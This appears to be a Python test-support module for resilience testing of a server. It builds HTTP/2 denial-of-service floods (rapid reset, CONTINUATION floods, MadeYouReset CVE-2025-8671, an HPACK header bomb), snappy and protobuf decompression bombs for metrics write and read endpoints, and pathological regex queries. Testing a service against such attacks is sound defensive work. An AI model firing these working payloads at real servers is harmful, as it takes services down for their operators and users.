"""Attacks that tests make one by one, and `attack.py` all together: floods of HTTP/2 frames, and bodies that grow."""

import struct

import cramjam
import hpack

from support import protocol
from support.hostile import (
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NOW, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, frame, literal, request_fields, settings,
)

# Each sends until it is not listened to any more, or for some megabytes.


def rapid_reset(peer):
    stop = struct.pack(">I", CANCEL)
    for stream in range(1, 20_001, 2):
        if not peer.send(peer.request(stream, ends=False) + frame(RST_STREAM, stream, stop)):
            return


def continuations(peer):
    piece = literal("x", "v" * 1000)
    peer.send(frame(HEADERS, 1, block(request_fields())))
    while peer.send(frame(CONTINUATION, 1, piece)):
        pass


def empty_continuations(peer):
    peer.send(frame(HEADERS, 1, block(request_fields())))
    while peer.send(frame(CONTINUATION, 1) * 100):
        pass


def empty_data(peer):
    peer.send(peer.request(1, ends=False))
    for _ in range(1000):
        if not peer.send(frame(DATA, 1) * 100):
            return


def padded_data(peer):
    """Frames that hold nothing but padding."""
    peer.send(peer.request(1, ends=False))
    for _ in range(1000):
        if not peer.send(frame(DATA, 1, b"\xff" + b"\0" * 255, PADDED) * 100):
            return


def window_overflow(peer):
    peer.send(frame(WINDOW_UPDATE, 0, b"\x7f\xff\xff\xff") * 2)


def made_us_reset(peer):
    """Streams that the server has to reset, each time for a fault of the client's (CVE-2025-8671)."""
    fields = request_fields() + [("content-length", "1")]
    for stream in range(1, 20_001, 2):
        if not peer.send(peer.request(stream, fields, ends=False) + frame(DATA, stream, b"xx", END_STREAM)):
            return


def references(peer):
    """Each byte of a header block stands for 3,900 bytes of header: 62 MB in one frame."""
    first = hpack.Encoder().encode(request_fields() + [("x-bomb", "v" * 3900)], huffman=False)
    peer.send(frame(HEADERS, 1, first, END_HEADERS | END_STREAM))
    # The newest entry of the dynamic table is number 62.
    peer.send(frame(HEADERS, 3, block(request_fields()) + b"\xbe" * 16_000, END_HEADERS | END_STREAM))


FLOODS = [rapid_reset, continuations, empty_continuations, empty_data, padded_data, window_overflow, made_us_reset, references]

CONTROL_FRAMES = {
    "pings": frame(PING, payload=b"12345678"),
    "settings": frame(SETTINGS),
    "changing settings": settings(initial_window_size=1) + settings(initial_window_size=0x7FFFFFFF),
    "priorities": frame(PRIORITY, 1, b"\0\0\0\3\xff"),
    "window updates": frame(WINDOW_UPDATE, 0, b"\0\0\0\1"),
    "unknown frames": frame(0xBE, 0, b"x"),
}

# Bodies: names, and what makes each. None of them stores anything.

DECODED = 32 << 20


def snappy(data):
    return bytes(cramjam.snappy.compress_raw(data))


def varint(number):
    text = b""
    while number >= 128:
        text, number = text + bytes([number & 127 | 128]), number >> 7
    return text + bytes([number])


def field(number, data):
    return varint(number << 3 | 2) + varint(len(data)) + data


def copies(size):
    """A snappy block that declares `size` bytes, which 64-byte copies of one byte make: 1 byte of body for 21 of them."""
    return varint(size) + b"\0a" + b"\xfe\1\0" * (size // 64)


NAME = field(1, field(1, b"__name__") + field(2, b"bomb"))
SAMPLE = field(2, b"\x10" + varint(NOW))


def group(depth):
    """Groups in groups, each closed again."""
    return b"\x7b" * depth + b"\x7c" * depth


BOMBS = {
    "one byte over and over": lambda: copies(DECODED),
    "more than is declared": lambda: varint(100) + b"\0a" + b"\xfe\1\0" * 100_000,
    "less than is declared": lambda: varint(DECODED) + b"\0a",
    "a copy from before the beginning": lambda: varint(64) + b"\xfe\xff\xff",
    "an empty series over and over": lambda: snappy(b"\x0a\0" * (DECODED // 2)),
    "64 million empty series": lambda: snappy(b"\x0a\0" * (64 << 20)),
    "groups in groups": lambda: snappy(group(1_000_000)),
    "groups in a series": lambda: snappy(field(1, NAME + group(1_000_000))),
    "a million labels": lambda: snappy(field(1, NAME + field(1, b"\x0a\1a\x12\1b") * 1_000_000)),
    "a million empty labels": lambda: snappy(field(1, NAME + b"\x0a\0" * 1_000_000)),
    "a label of 30 MB": lambda: snappy(field(1, NAME + field(1, b"\x0a\1a" + field(2, b"v" * 30_000_000)) + SAMPLE)),
    "a name of 30 MB": lambda: snappy(field(1, field(1, field(1, b"n" * 30_000_000)) + SAMPLE)),
    "series without a name": lambda: snappy(field(1, SAMPLE) * 300_000),
    "a length of 2^63": lambda: snappy(b"\x0a" + b"\xff" * 9 + b"\1"),
    "a length beyond the end": lambda: snappy(b"\x0a\x0a\x0a\xff\xff\xff\x7f"),
    "exemplars": lambda: snappy(field(1, NAME + b"\x1a\0" * 2_000_000)),
    "metadata": lambda: snappy(field(3, field(2, b"m") + field(4, b"h" * 100)) * 200_000),
    "unknown fields": lambda: snappy(b"\x98\x06\1" * 8_000_000),
    "histograms of nothing": lambda: snappy(field(1, NAME + b"\x22\0" * 2_000_000)),
    "spans of 4 billion buckets": lambda: snappy(
        field(1, NAME + field(4, b"\x08\1" + field(11, b"\x10" + varint(0xFFFFFFFF)) * 1000 + b"\x78" + varint(NOW)))
    ),
}

VERSION_2_BOMBS = {
    "16 million symbols": lambda: b"\x22\0" * (DECODED // 2),
    "symbols that nobody names": lambda: b"\x22\0" + field(4, b"x" * 30) * 900_000 + field(5, field(1, b"\1\2")),
    "references to nothing": lambda: b"\x22\0" + field(5, field(1, varint(0xFFFFFFFF) * 2) + SAMPLE) * 100_000,
    "a million references": lambda: b"\x22\0" + field(4, b"a") + field(5, field(1, b"\1\1" * 1_000_000)),
    "an odd reference": lambda: b"\x22\0" + field(5, field(1, b"\0" * 31)) * 500_000,
    "large symbols that all series name": lambda: b"\x22\0"
    + b"".join(field(4, bytes([65 + n]) * 60) + field(4, b"v" * 1000) for n in range(60))
    + field(5, field(1, bytes(range(1, 121))) + SAMPLE) * 200_000,
}

READS = {
    "empty queries": lambda: b"\x0a\0" * 500_000,
    "queries without end": lambda: protocol.read_request(
        -(1 << 63), (1 << 63) - 1, (protocol.RE, "__name__", ".*"), (protocol.NEQ, "a", "b")
    ).SerializeToString() * 10_000,
    "matchers": lambda: field(1, field(3, b"\x12\1a\x1a\1b") * 100_000),
    "hints": lambda: field(1, field(4, b"") * 300_000),
    "answer types": lambda: field(2, b"\1" * 1_000_000),
    "more than a read may have": lambda: b"\x0a\0" * (16 << 20),
    "groups in groups": lambda: group(500_000),
} | {
    f"the expression {text[:24]}": lambda text=text: protocol.read_request(
        NOW, NOW, (protocol.EQ, "__name__", "honest"), (protocol.RE, "n", text)
    ).SerializeToString()
    for text in [
        "(((a{1000}){1000}){1000}){1000}", "(" * 100_000 + ")" * 100_000, "(a*)*" * 1000 + "b", "[" * 100_000,
        "a{1001}", "(x+x+)+y", "|".join(f"a{n}" for n in range(100_000)), r"\pL" * 50_000, "(?i)" + "ſk" * 50_000,
        "((((((((((a?){30}){30}){30}){30}){30}){30}){30}){30}){30}){30}", "\\x{10FFFF}" * 50_000,
    ]
}
